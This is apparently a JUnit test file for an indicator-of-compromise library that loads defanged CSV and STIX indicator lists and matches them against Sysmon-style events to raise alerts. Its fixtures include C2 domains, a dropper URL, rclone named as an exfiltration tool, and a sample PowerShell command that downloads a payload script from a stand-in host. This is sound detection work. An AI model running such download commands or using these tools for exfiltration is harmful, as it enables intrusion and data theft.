package org.gamekeeper.engine.ioc;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.gamekeeper.engine.Alert;
import org.gamekeeper.engine.Alerts;
import org.gamekeeper.engine.Event;
import org.gamekeeper.engine.TestEvents;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class IocLibraryTest {

    @TempDir
    Path dir;

    private IocLibrary csv(String text) throws IOException, IocException {
        Path f = dir.resolve("iocs.csv");
        Files.writeString(f, text);
        return IocLibrary.load(List.of(f));
    }

    private static List<String> values(List<IocLibrary.Hit> hits) {
        return hits.stream().map(h -> h.indicator().value() + "@" + h.field()).toList();
    }

    @Test
    void defangedCsvIndicatorsMatchTheirFields() throws Exception {
        IocLibrary lib = csv("type,value,description\n"
                + "domain,evil[.]example,\"C2, per advisory\"\n"
                + "ip,198.51.100[.]7,staging\n"
                + "cidr,203.0.113.0/24,\n"
                + "url,hxxps://files.example[.]org/payload.ps1,dropper\n"
                + "sha256,A1B2C3D4E5F6A1B2C3D4E5F6A1B2C3D4E5F6A1B2C3D4E5F6A1B2C3D4E5F6A1B2,\n"
                + "filename,rclone.exe,exfil tool\n"
                + "# a comment\n");
        assertEquals(6, lib.indicators().size());
        assertEquals("C2, per advisory", lib.indicators().get(0).description());

        Event dns = TestEvents.one("{\"EventID\":22,\"QueryName\":\"cdn.Evil.example\",\"QueryResults\":\"::ffff:198.51.100.7;\"}");
        assertEquals(List.of("198.51.100.7@QueryResults", "evil.example@QueryName"), values(lib.match(dns)));

        Event net = TestEvents.one("{\"EventID\":3,\"DestinationIp\":\"203.0.113.99\",\"SourceIp\":\"10.1.1.1\"}");
        assertEquals(List.of("203.0.113.0/24@DestinationIp"), values(lib.match(net)));

        Event proc = TestEvents.one("{\"EventID\":1,\"Image\":\"C:\\\\Users\\\\x\\\\RClone.EXE\",\"CommandLine\":"
                + "\"powershell iwr https://files.example.org/payload.ps1?x=1 -o p.ps1\","
                + "\"Hashes\":\"SHA1=00,MD5=11,SHA256=a1b2c3d4e5f6a1b2c3d4e5f6a1b2c3d4e5f6a1b2c3d4e5f6a1b2c3d4e5f6a1b2,IMPHASH=22\"}");
        assertEquals(List.of("a1b2c3d4e5f6a1b2c3d4e5f6a1b2c3d4e5f6a1b2c3d4e5f6a1b2c3d4e5f6a1b2@Hashes",
                "https://files.example.org/payload.ps1@CommandLine", "rclone.exe@Image"), values(lib.match(proc)));

        Event clean = TestEvents.one("{\"EventID\":22,\"QueryName\":\"notevil.example\",\"DestinationIp\":\"198.51.100.8\"}");
        assertEquals(List.of(), lib.match(clean));
    }

    @Test
    void hitsBecomeIocAlertsNamingTheIndicator() throws Exception {
        IocLibrary lib = csv("domain,evil.example,C2\n");
        Event e = TestEvents.one("{\"EventID\":22,\"Computer\":\"WS1\",\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
                + "\"QueryName\":\"a.evil.example\",\"TimeCreated\":\"2022-01-01T00:00:00Z\"}");
        Alert a = Alerts.ioc(lib.match(e).get(0), e);
        assertEquals(Alert.Kind.IOC, a.kind());
        assertEquals("ioc:domain:evil.example", a.ruleId());
        assertEquals("WS1", a.computer());
        assertEquals("evil.example", a.details().get("indicator"));
        assertEquals("a.evil.example", a.details().get("value"));
        assertEquals("QueryName", a.details().get("field"));
        assertEquals(List.of("test.jsonl#L1"), a.eventRefs());
    }

    @Test
    void mailObservablesMatchSendersDomainsAndLinks() throws Exception {
        IocLibrary lib = csv("email,Attacker@Phish.example,\ndomain,phish.example,\nurl,http://203.0.113.5/login,\ncidr,203.0.113.0/28,\n");
        assertEquals(2, lib.observe(IndicatorType.EMAIL, "\"HR\" <attacker@phish.example>").size());
        assertEquals(1, lib.observe(IndicatorType.EMAIL, "someone@mail.phish.example").size());
        assertEquals(2, lib.observe(IndicatorType.URL, "http://203.0.113.5/login").size());
        assertEquals(0, lib.observe(IndicatorType.URL, "http://198.51.100.5/login").size());
    }

    @Test
    void stixBundlesGiveTheirSimpleEqualityIndicatorsAndCountTheRest() throws Exception {
        Path f = dir.resolve("bundle.json");
        Files.writeString(f, """
                {"type":"bundle","id":"bundle--1","objects":[
                 {"type":"identity","id":"identity--1","name":"CERT"},
                 {"type":"indicator","id":"indicator--a","name":"C2 address","pattern_type":"stix",
                  "pattern":"[ipv4-addr:value = '198.51.100.1'] OR [domain-name:value = 'c2.example']"},
                 {"type":"indicator","id":"indicator--b","pattern_type":"stix","pattern":"[file:hashes.'SHA-256' = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa']"},
                 {"type":"indicator","id":"indicator--c","pattern_type":"stix","pattern":"[file:name = 'x.exe' AND file:size = 10]"},
                 {"type":"indicator","id":"indicator--d","pattern_type":"yara","pattern":"rule x {}"},
                 {"type":"indicator","id":"indicator--e","pattern_type":"stix","pattern":"[url:value MATCHES '^http']"}
                ]}""");
        IocLibrary lib = IocLibrary.load(List.of(f));
        assertEquals(List.of("198.51.100.1", "c2.example", "a".repeat(64)), lib.indicators().stream().map(Indicator::value).toList());
        assertEquals("C2 address", lib.indicators().get(0).description());
        assertEquals("indicator--a", lib.indicators().get(0).source());
        assertEquals(1, lib.skipped().get("pattern with AND"));
        assertEquals(1, lib.skipped().get("pattern type yara"));
        assertEquals(1, lib.skipped().get("comparison MATCHES"));
    }

    @Test
    void badListsAreRefusedNamingFileAndLine() throws Exception {
        IocException e = assertThrows(IocException.class, () -> csv("ip,10.0.0.1\nhash,abc\n"));
        assertTrue(e.getMessage().endsWith("iocs.csv:2: unknown indicator type 'hash' (ip, cidr, domain, url, sha256, sha1, md5, filename, email)"),
                e.getMessage());
        IocException notIp = assertThrows(IocException.class, () -> csv("ip,10.0.0.300\n"));
        assertTrue(notIp.getMessage().contains("iocs.csv:1: not an IP address"), notIp.getMessage());
        IocException shortHash = assertThrows(IocException.class, () -> csv("sha256,abcd\n"));
        assertTrue(shortHash.getMessage().contains("64 hex digits"), shortHash.getMessage());
        Path stix = dir.resolve("broken.json");
        Files.writeString(stix, "{\"type\":\"bundle\",\"objects\":[");
        IocException json = assertThrows(IocException.class, () -> IocLibrary.load(List.of(stix)));
        assertTrue(json.getMessage().startsWith(stix + ": not valid JSON"), json.getMessage());
    }

    @Test
    void refangUndoesTheUsualDefanging() {
        assertEquals("https://a.example/x", Defang.refang("hxxps[://]a[.]example/x"));
        assertEquals("user@b.example", Defang.refang(" 'user[at]b(.)example' "));
        assertEquals("http://c.example", Defang.refang("hXXp://c[dot]example"));
    }
}
